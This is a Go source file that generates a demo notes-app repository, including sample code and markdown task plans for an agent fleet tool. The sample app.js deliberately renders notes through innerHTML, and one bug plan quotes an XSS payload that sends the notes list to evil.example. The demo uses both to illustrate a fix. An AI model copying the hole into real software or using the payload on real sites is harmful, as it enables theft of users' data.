// Package demo builds the throw-away sample project `fleetwatch demo` opens:
// jotter, a small notes web app in a real git repository, with a .plans/
// tree that has plans in every lane, one live and one expired lease, a
// dependency chain, and an event log, all made through planfs's verbs.
//
// Everything is fixed by the time passed to Create, except what git and the
// operating system choose (commit ids, lease tokens, hosts and pids).
package demo

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"time"

	"fleetwatch/internal/gitenv"
	"fleetwatch/model"
	"fleetwatch/planfs"
	"fleetwatch/workers"
)

const day = 24 * time.Hour

// Create makes the sample project in dir, which must be empty or not exist
// yet, and returns its absolute path. now is the moment the demo shows: the
// project's history ends there, one lease is live at now and one expired an
// hour before it.
//
// The tree it leaves (and what `fleetwatch check` says about it on purpose):
//   - drafts/: dark-mode (no Preferred models, no Done when, and a bold key
//     without its `-` bullet, which check reports), offline-sync;
//   - bugs/: note-html-injection (P1, too hard for small), utc-dates-in-list;
//   - features/: a dependency chain save-notes-to-disk (completed, met) ←
//     full-text-search ← search-result-highlighting (a `## Depends on`
//     section, unmet); rate-limit-login, met only through git history (its
//     session-cookies plan was completed, then deleted); export-to-pdf on a
//     slug no plan has (check reports it); rotate-signing-key, alice's;
//     note-pinning, keyboard-shortcuts and tag-autocomplete (promoted);
//   - in-progress/: duplicate-tags-by-case leased to mid-1 (live),
//     crash-on-empty-title leased to small-2 (expired; check reports it),
//     share-links (plan first), whose proposal by reasoner-2 waits in the
//     coordinator's inbox (var/fleet/run/proposals/share-links/1.md), the
//     lease held by the inbox;
//   - review-needed/: csv-import (peer-reviewed, approved, first in the
//     merge queue), archive-notes (approved, second: it touches the lines
//     csv-import does, so it conflicts once csv-import lands) and
//     word-count (a peer asked for changes); each on its feature branch in
//     its author's worktree; fleetwatch.yaml names dev and two checks;
//     ambiguous/: improve-performance;
//     blocked/: email-reminders (both parked with a reason);
//   - completed/: save-notes-to-disk, basic-auth-login.
//
// With an executor (the command line of the demo's stand-in agent), the
// project gets an endpoints.yaml naming it, so workers spawned from the UI
// really run; and state files and logs for three workers: mid-1 on another
// host (live), small-2 (dead, its process gone) and reasoner-1 (exited).
func Create(dir string, now time.Time, executor []string) (project string, err error) {
	if _, err := exec.LookPath("git"); err != nil {
		return "", errors.New("the demo needs git on PATH")
	}
	if project, err = emptyDir(dir); err != nil {
		return "", err
	}
	b := &builder{project: project, now: now}
	b.build()
	if executor != nil {
		b.fleet(executor)
	}
	if b.err != nil {
		return "", fmt.Errorf("cannot build the demo project in %s: %w", project, b.err)
	}
	return project, nil
}

// emptyDir makes dir if it is missing, refuses one with anything in it, and
// returns its absolute path.
func emptyDir(dir string) (string, error) {
	abs, err := filepath.Abs(dir)
	if err != nil {
		return "", err
	}
	entries, err := os.ReadDir(abs)
	switch {
	case errors.Is(err, fs.ErrNotExist):
		if err := os.MkdirAll(abs, 0o755); err != nil {
			return "", fmt.Errorf("cannot create %s: %v", abs, err)
		}
	case err != nil:
		return "", fmt.Errorf("cannot use %s for the demo: %v", abs, err)
	case len(entries) > 0:
		return "", fmt.Errorf("%s is not empty; the demo needs an empty or new directory", abs)
	}
	return abs, nil
}

// builder runs the project's history step by step; after the first failed
// step the others do nothing and err says what failed.
type builder struct {
	project string
	now     time.Time
	tree    *planfs.Tree
	err     error
}

func (b *builder) build() {
	b.git(0, author{}, "init", "-q", "-b", "main")
	// Local settings, so commits work without a global git identity, and
	// later ones (an agent's, the operator's) too.
	b.git(0, author{}, "config", "user.name", "Alice Example")
	b.git(0, author{}, "config", "user.email", "alice@jotter.invalid")
	b.git(0, author{}, "config", "commit.gpgsign", "false")

	b.writeApp(map[string]string{"README.md": readme, "go.mod": goMod, "main.go": mainV1, "notes.go": notesGo,
		"web/index.html": indexHTML, "web/app.js": appJS})
	b.commit(14*day, alice, "Start jotter: a tiny notes server with a web page")
	b.writeApp(map[string]string{"notes_test.go": notesTest})
	b.commit(13*day, alice, "Notes: test the list order")

	if b.err == nil {
		_, b.err = planfs.Scaffold(b.project)
	}
	if b.err == nil {
		b.tree, b.err = planfs.Open(b.project)
	}
	b.add(model.Features, "save-notes-to-disk", 12*day)
	b.add(model.Features, "session-cookies", 12*day-time.Hour)
	b.add(model.Features, "basic-auth-login", 12*day-2*time.Hour)
	b.commit(12*day-3*time.Hour, alice, "Plans: scaffold .plans/ and the first backlog")
	b.firstPlansDone()
	b.backlog()
	b.triage()
	b.landingQueue()
	b.inFlight()
	if b.tree != nil {
		b.tree.Now = time.Now
	}
}

// firstPlansDone is the fleet's first work, and a pruned completed/.
func (b *builder) firstPlansDone() {
	disk := b.claim("features/save-notes-to-disk.md", "mid-1", 11*day, planfs.DefaultTTL)
	cookies := b.claim("features/session-cookies.md", "mid-2", 11*day-time.Hour, planfs.DefaultTTL)
	b.complete(disk, model.Completed, "mid-1", 11*day-3*time.Hour)
	b.complete(cookies, model.Completed, "mid-2", 11*day-5*time.Hour)
	b.writeApp(map[string]string{"main.go": mainV2, "persist.go": persistGo, "session.go": sessionGo, ".gitignore": "notes.json\n/jotter\n/var/\n/endpoints.yaml\n"})
	b.commit(11*day-6*time.Hour, agent("mid-1"), "Save notes to disk; sign session cookies")
	login := b.claim("features/basic-auth-login.md", "reasoner-1", 10*day, planfs.DefaultTTL)
	b.complete(login, model.Completed, "reasoner-1", 10*day-6*time.Hour)
	b.writeApp(map[string]string{"auth.go": authGo})
	b.commit(10*day-7*time.Hour, agent("reasoner-1"), "Hash and check passwords with PBKDF2")

	// Pruned: from now on only git history knows session-cookies was done.
	b.git(7*day, alice, "rm", "-q", filepath.Join(planfs.Dir, "completed", "session-cookies.md"))
	b.commit(7*day, alice, "Plans: prune completed/ (session-cookies shipped in v0.2)")
}

// backlog is the v0.3 backlog.
func (b *builder) backlog() {
	// The v0.3 backlog, written over a few days: the ready order comes from
	// these times where lane, priority and value tie.
	b.add(model.Bugs, "crash-on-empty-title", 6*day)
	b.add(model.Features, "full-text-search", 6*day-2*time.Hour)
	b.add(model.Features, "note-pinning", 6*day-4*time.Hour)
	b.add(model.Bugs, "utc-dates-in-list", 5*day)
	b.add(model.Features, "search-result-highlighting", 5*day-time.Hour)
	b.add(model.Features, "rate-limit-login", 5*day-3*time.Hour)
	b.add(model.Features, "csv-import", 5*day-5*time.Hour)
	b.add(model.Features, "email-reminders", 4*day)
	b.add(model.Bugs, "duplicate-tags-by-case", 4*day-time.Hour)
	b.add(model.Features, "export-to-pdf", 4*day-2*time.Hour)
	b.add(model.Bugs, "note-html-injection", 4*day-3*time.Hour)
	b.add(model.Features, "rotate-signing-key", 4*day-4*time.Hour)
	b.add(model.Features, "improve-performance", 4*day-6*time.Hour)
	b.add(model.Features, "keyboard-shortcuts", 3*day-time.Hour)
	b.add(model.Features, "archive-notes", 3*day-90*time.Minute)
	b.add(model.Features, "word-count", 3*day-100*time.Minute)
	b.add(model.Drafts, "tag-autocomplete", 3*day-2*time.Hour)
	b.add(model.Drafts, "dark-mode", 3*day-3*time.Hour)
	b.add(model.Drafts, "offline-sync", 3*day-5*time.Hour)
	b.commit(3*day-6*time.Hour, alice, "Plans: backlog for v0.3")
}

// triage reviews, promotes and parks.
func (b *builder) triage() {
	// Triage: one plan done and waiting for a person, one promoted, two set
	// aside by the agents that claimed them.
	csv := b.claim("features/csv-import.md", "reasoner-1", 2*day, planfs.DefaultTTL)
	b.complete(csv, model.ReviewNeeded, "reasoner-1", 2*day-5*time.Hour)
	b.promote("drafts/tag-autocomplete.md", model.Features, "alice", day)
	perf := b.claim("features/improve-performance.md", "mid-2", day-time.Hour, planfs.DefaultTTL)
	b.park(perf, model.Ambiguous, "mid-2", "no target: which pages are slow, and how fast is fast enough?", day-80*time.Minute)
	mail := b.claim("features/email-reminders.md", "mid-2", day-3*time.Hour, planfs.DefaultTTL)
	b.park(mail, model.Blocked, "mid-2", "needs SMTP credentials: there is no sending domain yet", day-210*time.Minute)
	b.commit(day-4*time.Hour, alice, "Plans: csv-import for review, tag-autocomplete ready, two plans parked")
}

// inFlight is the work under way now, with its worktrees.
func (b *builder) inFlight() {
	// Work in flight: small-2 died two hours ago holding a P1 bug (its lease
	// expired an hour ago); mid-1 took the next bug ten minutes ago.
	b.claim("bugs/crash-on-empty-title.md", "small-2", 2*time.Hour, 3600)
	// reasoner-2 planned share-links first; its plan waits in the inbox.
	b.proposal()
	b.claim("bugs/duplicate-tags-by-case.md", "mid-1", 10*time.Minute, 3600)
	b.commit(5*time.Minute, alice, "Plans: claims in flight")
	// Their worktrees, as workers.Ensure makes them: small-2 died with
	// work not committed, mid-1 has just started.
	b.worktree("small-2", "crash-on-empty-title", map[string]string{"notes.go": notesGo + "\n// TODO(small-2): reject empty titles\n"})
	b.worktree("mid-1", "duplicate-tags-by-case", nil)
}

// worktree gives agent its worktree on the plan's feature branch and
// leaves files changed there, uncommitted.
func (b *builder) worktree(agent, slug string, files map[string]string) {
	if b.err != nil {
		return
	}
	wt, err := workers.Ensure(b.project, agent, slug)
	if err != nil {
		b.fail("worktree for "+agent, err)
		return
	}
	for name, text := range files {
		if err := os.WriteFile(filepath.Join(wt.Path, name), []byte(ticks(text)), 0o644); err != nil {
			b.fail("worktree for "+agent, err)
			return
		}
	}
}

// author is who a commit is by, as git's "Name <email>".
type author struct{ name, email string }

var alice = author{"Alice Example", "alice@jotter.invalid"}

func agent(id string) author { return author{id, id + "@agents.jotter.invalid"} }

// at sets the tree's clock to ago before now, so leases and events carry
// the demo's times.
func (b *builder) at(ago time.Duration) {
	if b.tree != nil {
		tm := b.now.Add(-ago)
		b.tree.Now = func() time.Time { return tm }
	}
}

func (b *builder) fail(step string, err error) {
	if err != nil && b.err == nil {
		b.err = fmt.Errorf("%s: %w", step, err)
	}
}

// writeApp writes files of the sample app (never under .plans/).
func (b *builder) writeApp(files map[string]string) {
	for name, text := range files {
		if b.err != nil {
			return
		}
		p := filepath.Join(b.project, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			b.fail("write "+name, err)
			return
		}
		b.fail("write "+name, os.WriteFile(p, []byte(ticks(text)), 0o644))
	}
}

// git runs git in the project with a commit date ago before now and an
// author. Inherited GIT_* variables (a hook's GIT_DIR or GIT_INDEX_FILE)
// and the user's global and system config are kept out: the demo repo must
// not depend on them or touch another repository.
func (b *builder) git(ago time.Duration, who author, args ...string) {
	b.gitIn(b.project, ago, who, args...)
}

// gitIn is git in dir (an agent's worktree).
func (b *builder) gitIn(dir string, ago time.Duration, who author, args ...string) {
	if b.err != nil {
		return
	}
	cmd := gitenv.Command(context.Background(), dir, args...)
	// Its own environment, not gitenv's: no GIT_ variable of the caller.
	cmd.Env = nil
	for _, kv := range os.Environ() {
		if !strings.HasPrefix(kv, "GIT_") {
			cmd.Env = append(cmd.Env, kv)
		}
	}
	date := "@" + strconv.FormatInt(b.now.Add(-ago).Unix(), 10) + " +0000"
	cmd.Env = append(cmd.Env, "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL="+os.DevNull,
		"GIT_AUTHOR_DATE="+date, "GIT_COMMITTER_DATE="+date)
	if who.name != "" {
		cmd.Env = append(cmd.Env, "GIT_AUTHOR_NAME="+who.name, "GIT_AUTHOR_EMAIL="+who.email)
	}
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	if err := cmd.Run(); err != nil {
		if msg := strings.TrimSpace(stderr.String()); msg != "" {
			err = fmt.Errorf("%v: %s", err, msg)
		}
		b.fail("git "+args[0], err)
	}
}

// commit records the whole project, .plans/ included (leases are ignored).
func (b *builder) commit(ago time.Duration, who author, msg string) {
	b.git(ago, who, "add", "-A")
	b.git(ago, who, "commit", "-q", "-m", msg)
}

// add writes a sample plan with its mtime and creation event ago before now.
func (b *builder) add(lane model.Lane, slug string, ago time.Duration) {
	if b.err != nil {
		return
	}
	text, ok := plans[slug]
	if !ok {
		b.fail("add "+slug, errors.New("no such sample plan"))
		return
	}
	b.at(ago)
	_, err := b.tree.AddPlanAt(lane, slug+".md", ticks(text), b.now.Add(-ago))
	b.fail("add "+slug, err)
}

func (b *builder) claim(rel, agentID string, ago time.Duration, ttl float64) string {
	if b.err != nil {
		return ""
	}
	b.at(ago)
	dst, err := b.tree.Claim(rel, agentID, ttl)
	b.fail("claim "+rel, err)
	return dst
}

func (b *builder) complete(rel string, to model.Lane, agentID string, ago time.Duration) {
	if b.err != nil {
		return
	}
	b.at(ago)
	_, err := b.tree.Complete(rel, to, planfs.Actor{AgentID: agentID})
	b.fail("complete "+rel, err)
}

func (b *builder) park(rel string, to model.Lane, agentID, reason string, ago time.Duration) {
	if b.err != nil {
		return
	}
	b.at(ago)
	_, err := b.tree.Park(rel, to, planfs.Actor{AgentID: agentID}.Because(reason))
	b.fail("park "+rel, err)
}

func (b *builder) promote(rel string, to model.Lane, who string, ago time.Duration) {
	if b.err != nil {
		return
	}
	b.at(ago)
	_, _, err := b.tree.Promote(rel, to, planfs.Actor{AgentID: who})
	b.fail("promote "+rel, err)
}

// ticks turns ‵ into a backquote: the texts below are Go raw strings, which
// cannot hold one.
func ticks(s string) string { return strings.ReplaceAll(s, "‵", "`") }

// The sample app's files.

const readme = `# jotter

A small notes web app: write notes, tag them, find them again.

## Run

‵‵‵sh
go run .
‵‵‵

Then open http://localhost:8080. Notes are kept in ‵notes.json‵
(‵JOTTER_DATA‵ names another file).

## Layout

- ‵main.go‵: the HTTP server and its routes
- ‵notes.go‵: notes and the store
- ‵web/‵: the page and its script
- ‵.plans/‵: work for the agent fleet, one markdown plan per task
`

const goMod = `module jotter

go 1.24
`

const mainV1 = `// Command jotter serves a small notes web app.
package main

import (
	"encoding/json"
	"log"
	"net/http"
)

func main() {
	store := &Store{}
	mux := http.NewServeMux()
	mux.Handle("GET /", http.FileServer(http.Dir("web")))
	mux.HandleFunc("GET /api/notes", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, store.List())
	})
	mux.HandleFunc("POST /api/notes", func(w http.ResponseWriter, r *http.Request) {
		var n Note
		if err := json.NewDecoder(r.Body).Decode(&n); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		n = store.Add(n)
		log.Printf("added %q", n.Preview())
		writeJSON(w, http.StatusCreated, n)
	})
	log.Println("jotter listening on :8080")
	log.Fatal(http.ListenAndServe(":8080", mux))
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	json.NewEncoder(w).Encode(v)
}
`

const mainV2 = `// Command jotter serves a small notes web app.
package main

import (
	"cmp"
	"encoding/json"
	"log"
	"net/http"
	"os"
)

func main() {
	path := cmp.Or(os.Getenv("JOTTER_DATA"), "notes.json")
	store := &Store{}
	if err := store.Load(path); err != nil {
		log.Fatalf("jotter: %v", err)
	}
	mux := http.NewServeMux()
	mux.Handle("GET /", http.FileServer(http.Dir("web")))
	mux.HandleFunc("GET /api/notes", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, store.List())
	})
	mux.HandleFunc("POST /api/notes", func(w http.ResponseWriter, r *http.Request) {
		var n Note
		if err := json.NewDecoder(r.Body).Decode(&n); err != nil {
			http.Error(w, err.Error(), http.StatusBadRequest)
			return
		}
		n = store.Add(n)
		if err := store.Save(path); err != nil {
			http.Error(w, err.Error(), http.StatusInternalServerError)
			return
		}
		log.Printf("added %q", n.Preview())
		writeJSON(w, http.StatusCreated, n)
	})
	log.Println("jotter listening on :8080")
	log.Fatal(http.ListenAndServe(":8080", mux))
}

func writeJSON(w http.ResponseWriter, code int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(code)
	json.NewEncoder(w).Encode(v)
}
`

const notesGo = `package main

import (
	"strings"
	"sync"
	"time"
)

// Note is one note.
type Note struct {
	ID      int       ‵json:"id"‵
	Title   string    ‵json:"title"‵
	Body    string    ‵json:"body"‵
	Tags    []string  ‵json:"tags,omitempty"‵
	Updated time.Time ‵json:"updated"‵
}

// Preview is how the note reads in the server log.
func (n Note) Preview() string {
	return strings.ToUpper(n.Title[:1]) + n.Title[1:]
}

// Store holds every note.
type Store struct {
	mu    sync.Mutex
	next  int
	notes []Note
}

// Add stores n and returns it with its id.
func (s *Store) Add(n Note) Note {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.next++
	n.ID, n.Updated = s.next, time.Now()
	s.notes = append(s.notes, n)
	return n
}

// List returns every note, newest first.
func (s *Store) List() []Note {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]Note, len(s.notes))
	for i, n := range s.notes {
		out[len(out)-1-i] = n
	}
	return out
}
`

const notesTest = `package main

import "testing"

func TestListNewestFirst(t *testing.T) {
	var s Store
	s.Add(Note{Title: "first"})
	s.Add(Note{Title: "second"})
	got := s.List()
	if len(got) != 2 || got[0].Title != "second" {
		t.Fatalf("List() = %+v", got)
	}
}
`

const persistGo = `package main

import (
	"encoding/json"
	"errors"
	"io/fs"
	"os"
)

// Load reads the notes saved at path; a missing file means no notes yet.
func (s *Store) Load(path string) error {
	data, err := os.ReadFile(path)
	if errors.Is(err, fs.ErrNotExist) {
		return nil
	}
	if err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if err := json.Unmarshal(data, &s.notes); err != nil {
		return err
	}
	for _, n := range s.notes {
		s.next = max(s.next, n.ID)
	}
	return nil
}

// Save writes every note to path through a temp file, so a crash never
// leaves half a file.
func (s *Store) Save(path string) error {
	s.mu.Lock()
	data, err := json.MarshalIndent(s.notes, "", "  ")
	s.mu.Unlock()
	if err != nil {
		return err
	}
	tmp := path + ".tmp"
	if err := os.WriteFile(tmp, data, 0o644); err != nil {
		return err
	}
	return os.Rename(tmp, path)
}
`

const sessionGo = `package main

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"strings"
)

// Sign returns a cookie value that proves the server issued session id.
func Sign(id string, key []byte) string {
	m := hmac.New(sha256.New, key)
	m.Write([]byte(id))
	return id + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}

// Verify returns the session id of a value made by Sign.
func Verify(value string, key []byte) (string, bool) {
	i := strings.LastIndexByte(value, '.')
	if i < 0 {
		return "", false
	}
	id := value[:i]
	return id, hmac.Equal([]byte(Sign(id, key)), []byte(value))
}
`

const authGo = `package main

import (
	"crypto/pbkdf2"
	"crypto/rand"
	"crypto/sha256"
	"crypto/subtle"
	"encoding/base64"
	"strings"
)

const hashRounds = 600_000

// HashPassword returns a salted hash of pw to store instead of it.
func HashPassword(pw string) (string, error) {
	salt := make([]byte, 16)
	rand.Read(salt)
	key, err := pbkdf2.Key(sha256.New, pw, salt, hashRounds, 32)
	if err != nil {
		return "", err
	}
	enc := base64.RawStdEncoding
	return enc.EncodeToString(salt) + "$" + enc.EncodeToString(key), nil
}

// CheckPassword reports whether pw is the password hash was made from.
func CheckPassword(pw, hash string) bool {
	enc := base64.RawStdEncoding
	salt64, key64, ok := strings.Cut(hash, "$")
	salt, err1 := enc.DecodeString(salt64)
	want, err2 := enc.DecodeString(key64)
	if !ok || err1 != nil || err2 != nil {
		return false
	}
	got, err := pbkdf2.Key(sha256.New, pw, salt, hashRounds, len(want))
	return err == nil && subtle.ConstantTimeCompare(got, want) == 1
}
`

const indexHTML = `<!doctype html>
<html lang="en">
<head>
  <meta charset="utf-8">
  <title>jotter</title>
</head>
<body>
  <h1>jotter</h1>
  <form id="new">
    <input name="title" placeholder="Title">
    <textarea name="body" placeholder="Write something"></textarea>
    <button>Save</button>
  </form>
  <ul id="notes"></ul>
  <script src="app.js"></script>
</body>
</html>
`

const appJS = `const list = document.getElementById("notes");
const form = document.getElementById("new");

async function refresh() {
  const notes = await (await fetch("/api/notes")).json();
  list.innerHTML = "";
  for (const n of notes) {
    const li = document.createElement("li");
    li.innerHTML = ‵<strong>${n.title}</strong> ${n.body}
      <time>${new Date(n.updated).toISOString()}</time>‵;
    list.append(li);
  }
}

form.addEventListener("submit", async (e) => {
  e.preventDefault();
  const note = Object.fromEntries(new FormData(form));
  await fetch("/api/notes", { method: "POST", body: JSON.stringify(note) });
  form.reset();
  refresh();
});

refresh();
`

// plans holds the sample plans by slug; build decides lanes and times.
var plans = map[string]string{
	"save-notes-to-disk": `# Keep notes across restarts

- **Value:** high
- **Priority:** P1
- **Preferred models:** mid, claude-sonnet
- **Assignee:** ai
- **Depends on:** none

## Goal
Notes survive a restart: save them to a JSON file after every change and
load it at start-up.

## Context
The ‵Store‵ in notes.go keeps notes in memory only, so every deploy wipes them.

- One file is plenty for a few thousand notes; a database can come later.
- Write a temp file and rename it into place, so a crash never leaves half a file.
- The file is the list of notes as the API returns them:

‵‵‵json
[
  {"id": 1, "title": "Groceries", "body": "eggs, milk", "updated": "2025-03-01T09:12:00Z"}
]
‵‵‵

## Done when
- [ ] ‵JOTTER_DATA‵ names the file (default ‵notes.json‵)
- [ ] notes written before a restart are listed after it
- [ ] ‵go test ./...‵ passes
`,

	"session-cookies": `# Keep users signed in with session cookies

- **Value:** high
- **Priority:** P1
- **Preferred models:** mid
- **Depends on:** none

## Goal
A signed cookie says which user a request comes from, so notes can have owners.

## Context
- HMAC-SHA256 over the session id, keyed by ‵JOTTER_SESSION_KEY‵.
- Cookie flags: HttpOnly, Secure, SameSite=Lax.

‵‵‵go
func Sign(id string, key []byte) string {
	m := hmac.New(sha256.New, key)
	m.Write([]byte(id))
	return id + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil))
}
‵‵‵

## Done when
- [ ] a cookie with a changed id or signature is rejected
- [ ] ‵go test ./...‵ covers both
`,

	"basic-auth-login": `# Log in with a password

- **Value:** high
- **Priority:** P2
- **Preferred models:** reasoner, mid
- **Depends on:** session-cookies

## Goal
Users sign in with an email and a password; nobody's password is ever stored.

## Context
- Hash with PBKDF2-SHA256 (standard library since Go 1.24), 600 000 rounds, 16-byte salt.
- Compare in constant time.
- Store ‵salt$key‵, both base64, in one column.

‵‵‵go
key, err := pbkdf2.Key(sha256.New, pw, salt, 600_000, 32)
‵‵‵

## Done when
- [ ] ‵CheckPassword(pw, HashPassword(pw))‵ holds and a wrong password fails
- [ ] a wrong password and an unknown email give the same answer
`,

	"crash-on-empty-title": `# Crash when saving a note with an empty title

- **Value:** high
- **Priority:** P1
- **Preferred models:** small, qwen2.5-coder-7b
- **Assignee:** ai
- **Depends on:** none

## Goal
Saving a note without a title must not take the server down.

## Context
Reproduce:

‵‵‵sh
curl -X POST localhost:8080/api/notes -d '{"body": "hello"}'
‵‵‵

‵Note.Preview‵ in notes.go slices the title without looking:

‵‵‵go
return strings.ToUpper(n.Title[:1]) + n.Title[1:] // panics on ""
‵‵‵

- Fall back to the first line of the body, then to "Untitled".
- Keep the fix in ‵Preview‵; the handler is fine.

## Done when
- [ ] the request above returns 201 and the server keeps running
- [ ] a table test covers an empty, a blank and a one-letter title
`,

	"utc-dates-in-list": `# Note list shows times in UTC

- **Value:** medium
- **Priority:** P2
- **Preferred models:** small, qwen2.5-coder-7b
- **Depends on:** none

## Goal
Show when a note was last changed in the reader's own time zone, briefly.

## Context
web/app.js prints ‵toISOString()‵, which is UTC and too long for a list:

‵‵‵js
const when = new Intl.DateTimeFormat(undefined, { dateStyle: "medium", timeStyle: "short" });
time.textContent = when.format(new Date(n.updated));
‵‵‵

- Put the full timestamp in the ‵datetime‵ attribute for screen readers.

## Done when
- [ ] a note saved at 09:00 local time shows 09:00, in any time zone
- [ ] the ‵<time>‵ element carries the ISO timestamp
`,

	"duplicate-tags-by-case": `# Tags that differ only by case are two tags

- **Value:** medium
- **Priority:** P2
- **Preferred models:** mid, claude-sonnet
- **Depends on:** none

## Goal
"Work", "work" and "WORK" are one tag.

## Context
Tags are stored exactly as typed, so filtering by one misses the others.

- Normalise on save: trim, lower-case, collapse inner spaces.
- Fix the notes already saved when they are loaded.

‵‵‵go
func normTag(s string) string {
	return strings.Join(strings.Fields(strings.ToLower(s)), " ")
}
‵‵‵

## Done when
- [ ] saving a note with tags "Work, work" keeps one tag, "work"
- [ ] notes saved before the fix load with normalised tags
`,

	"note-html-injection": `# A note's title or body runs as HTML

- **Value:** high
- **Priority:** P1
- **Preferred models:** reasoner, claude-sonnet
- **Depends on:** none

## Goal
Nothing a user types can run script in another user's page.

## Context
web/app.js builds each list item with ‵innerHTML‵ from the note's own text. A
note titled like this runs its script for everyone who lists it:

‵‵‵html
<img src=x onerror="fetch('/api/notes').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.example', t))">
‵‵‵

- Build the item with ‵textContent‵ and ‵createElement‵.
- Add a Content-Security-Policy header that forbids inline script.

## Done when
- [ ] the note above shows as text and nothing is sent anywhere
- [ ] responses carry ‵Content-Security-Policy: script-src 'self'‵
- [ ] a test posts the note and checks the header
`,

	"full-text-search": `# Search notes by the words in them

- **Value:** high
- **Priority:** P2
- **Preferred models:** mid, reasoner
- **Assignee:** agents
- **Depends on:** save-notes-to-disk

## Goal
‵GET /api/search?q=milk eggs‵ returns the notes holding every word, best first.

## Context
Notes are loaded from disk at start-up, so an in-memory index built there and
kept up to date on save is enough.

- Words: lower-case letters and digits; drop one-letter words.
- Rank by how often the words occur, newest first on ties.

‵‵‵go
type Index struct {
	postings map[string]map[int]int // word → note id → count
}
‵‵‵

## Done when
- [ ] a search finds a note by a word of its title or body
- [ ] an edited note is found by its new words, not its old ones
- [ ] 10 000 notes are searched in under 10 ms
`,

	"search-result-highlighting": `# Highlight the matching words in search results

- **Value:** medium
- **Priority:** P2
- **Preferred models:** mid

## Goal
Each search result shows a short excerpt with the matched words marked.

## Context
- The search returns note ids; add an ‵excerpt‵ of about 20 words around the
  first match.
- Mark matches with ‵<mark>‵, built with DOM calls, never by pasting HTML.

## Depends on
- full-text-search (the index gives the positions)

## Done when
- [ ] searching "milk" shows "… buy **milk** and eggs …"
- [ ] a title with HTML in it still shows as text
`,

	"rate-limit-login": `# Rate-limit login attempts

- **Value:** high
- **Priority:** P2
- **Preferred models:** reasoner, frontier
- **Depends on:** session-cookies, basic-auth-login

## Goal
Guessing passwords gets slow: five failures from one address or for one
account lock further tries for a while.

## Context
- A token bucket per client address and one per email; both must have a token.
- Lockouts double, from one minute up to an hour.
- Answer 429 with ‵Retry-After‵; never say whether the email exists.

‵‵‵go
type bucket struct {
	tokens float64
	last   time.Time
}
‵‵‵

## Done when
- [ ] the sixth wrong password within a minute gets 429
- [ ] a right password after the lock ends works
- [ ] memory stays bounded under a spray of random emails
`,

	"archive-notes": `# Archive a note

- **Value:** medium
- **Priority:** P2
- **Preferred models:** mid
- **Depends on:** none

## Goal
Old notes leave the list without being lost.

## Context
‵POST /api/notes/{id}/archive‵ takes the note out of the list; 404 for an
unknown id.

## Done when
- [ ] an archived note is gone from ‵GET /api/notes‵
- [ ] an unknown id is 404
`,

	"word-count": `# Word count for each note

- **Value:** low
- **Priority:** P3
- **Preferred models:** small, mid
- **Depends on:** none

## Goal
The list shows how long each note is.

## Done when
- [ ] each note in the list says how many words it has
- [ ] an empty body is 0 words
`,

	"csv-import": `# Import notes from a CSV file

- **Value:** medium
- **Priority:** P2
- **Preferred models:** reasoner, claude-sonnet
- **Depends on:** none

## Goal
People leaving another notes app bring their notes along.

## Context
‵POST /api/import‵ takes a CSV file with a header row:

‵‵‵csv
title,body,tags
Groceries,"eggs, milk","home, weekly"
‵‵‵

- Unknown columns are ignored; a missing title column is an error.
- Import is all or nothing.

## Done when
- [ ] the file above adds one note with two tags
- [ ] a file with a bad row adds nothing and names the row
`,

	"email-reminders": `# Email a reminder when a note is due

- **Value:** medium
- **Priority:** P3
- **Preferred models:** mid
- **Depends on:** none

## Goal
A note with a due date sends its owner an email that morning.

## Context
- A ‵due‵ date on notes, set from the page.
- A ticker once an hour sends what is due and marks it sent.
- SMTP host, user and password come from the environment.

## Done when
- [ ] a note due today sends one email, once
- [ ] a failed send is retried the next hour
`,

	"export-to-pdf": `# Export a note as PDF

- **Value:** low
- **Priority:** P3
- **Preferred models:** mid, claude-sonnet
- **Depends on:** pdf-renderer-spike   # the spike plan is not written yet

## Goal
A "Download PDF" link on each note.

## Context
We have not chosen how to render: a headless browser is heavy, a Go PDF
library may not handle every script. A spike should decide first.

## Done when
- [ ] the PDF of a note with a list and a code block looks like the page
`,

	"rotate-signing-key": `# Rotate the session signing key

- **Value:** high
- **Priority:** P1
- **Preferred models:** frontier
- **Assignee:** alice (needs production secrets)
- **Depends on:** none

## Goal
Replace ‵JOTTER_SESSION_KEY‵ in production without signing everyone out.

## Context
The key has been in a shared chat once. Rotation needs access to the
production secret store, which only Alice has.

1. Accept the old and the new key for verification.
2. Sign new cookies with the new key.
3. After 30 days, drop the old key.

## Done when
- [ ] the old key is gone from production and from the secret store
- [ ] nobody was signed out
`,

	"improve-performance": `# Make jotter faster

- **Value:** medium
- **Priority:** P2
- **Preferred models:** mid

## Goal
The app feels slow. Make it faster.

## Done when
- [ ] it is fast
`,

	"keyboard-shortcuts": `# Keyboard shortcuts

- **Value:** medium
- **Priority:** P3
- **Preferred models:** small
- **Depends on:** none

## Goal
Write and find notes without the mouse.

## Context
| key | action |
|---|---|
| n | new note (focus the title) |
| / | focus search |
| Esc | leave the field |

‵‵‵js
document.addEventListener("keydown", (e) => {
  if (e.target.matches("input, textarea")) return;
  if (e.key === "n") { e.preventDefault(); form.title.focus(); }
});
‵‵‵

## Done when
- [ ] each key above works, and none fires while typing in a field
`,

	proposalSlug: shareLinksPlan,

	"note-pinning": `# Pin notes to the top of the list

- **Value:** medium
- **Priority:** P2
- **Preferred models:** small, mid
- **Depends on:** none

## Goal
A pinned note stays above the others, whatever its age.

## Context
- A ‵pinned‵ field on ‵Note‵, saved with the rest.
